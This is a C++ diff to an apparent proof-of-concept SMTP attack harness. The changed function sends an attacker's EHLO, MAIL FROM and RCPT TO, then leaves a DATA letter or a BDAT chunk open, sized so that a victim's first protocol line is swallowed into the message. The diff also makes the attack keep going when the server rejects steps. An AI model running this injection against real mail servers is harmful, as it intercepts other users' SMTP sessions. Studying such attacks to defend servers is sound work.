@@ -34,21 +34,24 @@ class Upstream {
     if (options_.wrapped) greeting_ = channel_.reply();
   }
 
-  // The attacker's own beginning, which is to swallow what the victim says first. Throws Unable when the server does not
-  // take even that.
+  // The attacker's own beginning, which is to swallow what the victim says first. A server that refuses some of it may
+  // still join what follows.
   void say_prefix(std::size_t victims_first_line) {
-    const std::string features = ask("EHLO attacker.example", "2");
+    const std::string features = channel_.ask("EHLO attacker.example");
     if (options_.chunk && features.find("CHUNKING") == std::string::npos) {
       throw Unable("the server does not offer CHUNKING");
     }
-    ask("MAIL FROM:<" + options_.sender + ">", "2");
-    ask("RCPT TO:<" + options_.recipient + ">", "2");
+    if (!takes("MAIL FROM:<" + options_.sender + ">") || !takes("RCPT TO:<" + options_.recipient + ">"))
+      return;
     const std::string letter = "From: <" + options_.sender + ">\r\nSubject: what the victim says\r\n\r\n";
-    if (!options_.chunk) ask("DATA", "3");
-    const std::string size = std::to_string(letter.size() + victims_first_line);
-    channel_.write(options_.chunk ? "BDAT " + size + " LAST\r\n" + letter : letter);
-    tell(kAttacker,
-         options_.chunk ? "leaves a chunk open, as long as the victim's EHLO" : "leaves a letter open");
+    if (options_.chunk) {
+      const std::string size = std::to_string(letter.size() + victims_first_line);
+      channel_.write("BDAT " + size + " LAST\r\n" + letter);
+      tell(kAttacker, "leaves a chunk open, as long as the victim's EHLO");
+    } else if (takes("DATA")) {
+      channel_.write(letter);
+      tell(kAttacker, "leaves a letter open");
+    }
   }
 
   Records& records() { return records_; }
@@ -57,11 +60,10 @@ class Upstream {
   const std::string& ready() const { return ready_; }
 
  private:
-  std::string ask(const std::string& line, std::string_view wanted) {
+  bool takes(const std::string& line) {
     const std::string reply = channel_.ask(line);
     tell(kAttacker, line + " -- " + first_line(reply));
-    if (reply[0] != wanted[0]) throw Unable("the server refuses the prefix: " + reply);
-    return reply;
+    return reply[0] == '2' || reply[0] == '3';
   }
 
   const Options& options_;
